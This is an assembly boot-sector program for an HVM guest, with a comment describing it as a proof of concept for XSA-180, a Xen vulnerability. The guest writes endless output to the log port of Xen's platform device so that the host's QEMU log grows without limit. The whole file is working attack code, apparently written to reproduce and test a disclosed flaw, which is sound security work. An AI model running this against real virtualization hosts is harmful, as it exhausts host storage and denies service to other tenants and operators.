/*
 * The boot sector of an HVM guest that does what XSA-180 is about: it makes its own QEMU write log without end. Bytes
 * sent to port 0x12 (the log port of Xen's platform device, qemu/hw/i386/xen/xen_platform.c) are printed a line at a
 * time on QEMU's standard error while its trace event xen_platform_log is on.
 *
 * Each round prints "f " and the round's number, eight hexadecimal digits, then 63 empty lines: the most bytes of log
 * for a port write. When a round's number is printed it is left at 0x7e00, for QEMU's monitor to read ("xp 0x7e00").
 */
	.code16
	.text
	.globl	_start
_start:	cli
	xorw	%ax, %ax
	movw	%ax, %ds
	movw	$0x12, %dx
	xorl	%ebx, %ebx

round:	incl	%ebx
	movb	$'f', %al
	outb	%al, %dx
	movb	$' ', %al
	outb	%al, %dx
	movl	%ebx, %edi
	movw	$8, %cx
digit:	roll	$4, %edi
	movw	%di, %ax
	andb	$15, %al
	addb	$'0', %al
	cmpb	$'9', %al
	jbe	1f
	addb	$'a' - '9' - 1, %al
1:	outb	%al, %dx
	decw	%cx
	jnz	digit

	movb	$'\n', %al
	outb	%al, %dx
	movl	%ebx, 0x7e00
	movw	$63, %cx
empty:	outb	%al, %dx
	decw	%cx
	jnz	empty
	jmp	round

	.org	510
	.word	0xaa55		/* what a BIOS boots from */
